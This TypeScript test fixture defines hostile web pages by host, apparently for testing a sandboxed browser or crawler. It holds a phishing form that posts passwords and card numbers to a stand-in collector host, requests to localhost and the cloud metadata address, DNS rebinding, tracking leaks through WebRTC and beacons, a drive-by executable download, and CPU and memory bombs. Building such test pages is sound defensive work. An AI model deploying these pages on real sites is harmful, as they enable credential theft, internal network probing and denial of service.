import type { WebAnswer, WebRequest } from './web-server.ts';

/** What a page of a hostile site answers, by its host: each plays one trick. */
export const hostilePages: Record<string, (request: WebRequest) => WebAnswer> = {
  'login.example': () =>
    page(`<title>Sign in | Example Bank</title><h1>Example Bank</h1>
      <img src="/a.png" alt="logo"><img src="/b.png" alt="seal">
      <form method="post" action="https://collector.example.net/x.php">
      <label>Password <input type="password" name="p"></label><input name="cc" placeholder="Card number"></form>`),
  'redirects.example': ({ url }) => {
    const { pathname } = new URL(url);
    if (pathname === '/') return { status: 302, headers: { location: '/meta' } };
    if (pathname === '/meta') return page('<meta http-equiv="refresh" content="0;url=/script">');
    if (pathname === '/script') return page('<script>location.href = "/end"</script>');
    return page('<title>The end</title>');
  },
  'for-ever.example': ({ url }) => {
    const { searchParams } = new URL(url);
    const next = Number(searchParams.get('n') ?? 0) + 1;
    return { status: 302, headers: { location: `/?n=${next}` } };
  },
  'scripted-for-ever.example': () => page('<script>location.href = "/?" + Math.random()</script>'),
  'gate.example': () => page('<title>Just a moment...</title><p>Verify you are human</p>'),
  'cloak.example': ({ headers }) =>
    /Mobile/.test(headers['user-agent'] ?? '')
      ? page('<title>Sign in</title><input type="password" name="p">')
      : page('<title>Gardening</title><p>Roses and their care.</p>'),
  'worker.example': ({ url }) =>
    url.endsWith('/sw.js')
      ? {
          headers: { 'content-type': 'text/javascript' },
          body: 'self.onfetch = (event) => event.respondWith(fetch("http://127.0.0.1:FORBIDDEN/"))',
        }
      : page(`<script>
          navigator.serviceWorker?.register('/sw.js').then(() => console.log('registered'), (e) => console.log(e.message))
        </script>`),
  'leaks.example': () =>
    page(`<script>
      new WebSocket('ws://127.0.0.1:FORBIDDEN/'); new WebSocket('wss://leaks.example/');
      try {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:FORBIDDEN' }] });
        peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        peer.onicecandidate = ({ candidate }) => candidate && console.log('candidate ' + candidate.candidate);
      } catch (error) { console.log(error.message) }
      navigator.sendBeacon('/beacon', 'taro');
      fetch('/post', { method: 'POST', body: 'x=1', keepalive: true }).catch(() => {});
    </script><a ping="/ping" href="/next" id="a">next</a><script>document.getElementById('a').click()</script>`),
  'inside.example': () =>
    page(`<link rel="stylesheet" href="http://127.0.0.1:FORBIDDEN/style"><img src="http://localhost:FORBIDDEN/picture">
      <img src="http://[::1]:FORBIDDEN/six"><img src="http://2130706433:FORBIDDEN/number">
      <iframe src="http://127.0.0.1:FORBIDDEN/frame"></iframe><link rel="preconnect" href="http://127.0.0.1:FORBIDDEN">
      <script>for (const host of ['127.0.0.1:FORBIDDEN', 'localhost:FORBIDDEN', '169.254.169.254', '[::ffff:127.0.0.1]:FORBIDDEN',
        '10.0.0.1', 'router.lan', '0.0.0.0:FORBIDDEN', '0:FORBIDDEN'])
        fetch('http://' + host + '/script', { mode: 'no-cors' }).catch(() => {});</script>`),
  'rebinding.example': () =>
    page('<script>setTimeout(() => fetch("http://rebinding.example:FORBIDDEN/"), 300)</script>'),
  'endless.example': () => ({ manner: 'endless' }),
  'drip.example': () => ({ manner: 'drip' }),
  'bomb.example': () => ({ manner: 'bomb' }),
  'dialogs.example': () => page('<script>for (;;) alert("Call Microsoft now")</script>'),
  'frames.example': () =>
    page(`<script>for (let n = 0; n < 10000; n += 1) {
      const frame = document.createElement('iframe'); frame.src = '/frame?' + n; document.body.append(frame) }</script>`),
  'download.example': ({ url }) =>
    url.endsWith('/invoice.exe')
      ? { headers: { 'content-type': 'application/octet-stream', 'content-disposition': 'attachment' }, body: 'MZ' }
      : page('<script>location.href = "/invoice.exe"</script>'),
  'data.example': () =>
    page(`<script>location.href = URL.createObjectURL(new Blob(['<title>Blob</title><input type="password">'],
      { type: 'text/html' }))</script>`),
  'svg.example': () => ({
    headers: { 'content-type': 'image/svg+xml' },
    body: '<svg xmlns="http://www.w3.org/2000/svg"><text>Sign in</text><script>location.href="/next"</script></svg>',
  }),
  'asks.example': () =>
    page(`<script>Notification.requestPermission().then((x) => console.log('notifications ' + x));
      navigator.clipboard.readText().then(() => console.log('clipboard read'), () => console.log('clipboard denied'));
      navigator.geolocation.getCurrentPosition(() => console.log('position told'), () => console.log('position denied'));
      window.open('/popup'); onbeforeunload = () => 'stay';</script>`),
  'spins.example': () => page('<title>Spin</title><script>setTimeout(() => { for (;;); }, 50)</script>'),
  'allocates.example': () =>
    page(
      '<script>const all = []; setInterval(() => { for (let n = 0; n < 50; n += 1) all.push(new Uint8Array(1e6).fill(7)) }, 5)</script>',
    ),
  'submits.example': () =>
    page(`<form id="f" method="get" action="/sent"><input name="secret" value="x"></form>
      <form id="g" method="post" action="/sent"><input name="secret" value="x"></form>
      <script>document.getElementById('f').submit(); setTimeout(() => document.getElementById('g').submit(), 200);
      const request = new XMLHttpRequest(); request.open('PUT', '/sent'); request.send('x');</script>`),
};

function page(body: string): WebAnswer {
  return {
    headers: { 'content-type': 'text/html; charset=utf-8' },
    body: `<!doctype html><html><body>${body}</body></html>`,
  };
}
